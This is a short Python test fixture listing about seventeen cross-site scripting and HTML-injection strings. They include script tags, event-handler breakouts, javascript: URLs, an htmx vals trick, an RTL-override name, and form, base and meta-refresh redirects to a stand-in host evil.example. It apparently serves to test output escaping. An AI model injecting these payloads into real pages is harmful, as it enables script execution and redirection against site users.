"""What somebody might write who wants a page to run it. Each says `alert`, which a browser would show."""

HOSTILE = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onfocus=alert(1) autofocus='",
    '" autofocus onfocus="alert(1)',
    "</td><script>alert(1)</script>",
    "</textarea><svg onload=alert(1)>",
    "</title><script>alert(1)</script>",
    "</style><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "javascript:alert(1)",
    "{{ alert(1) }}{% raw %}",
    "<a href=javascript:alert(1)>alert</a>",
    "<div hx-get=/desk/home hx-trigger=load hx-vals='js:{a:alert(1)}'>alert</div>",
    "<form action=//evil.example><input name=alert autofocus>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<base href=//evil.example/alert>",
    "<meta http-equiv=refresh content='0;url=//evil.example/alert'>",
    "\u202egnp.trela\u202c<b>alert",
)
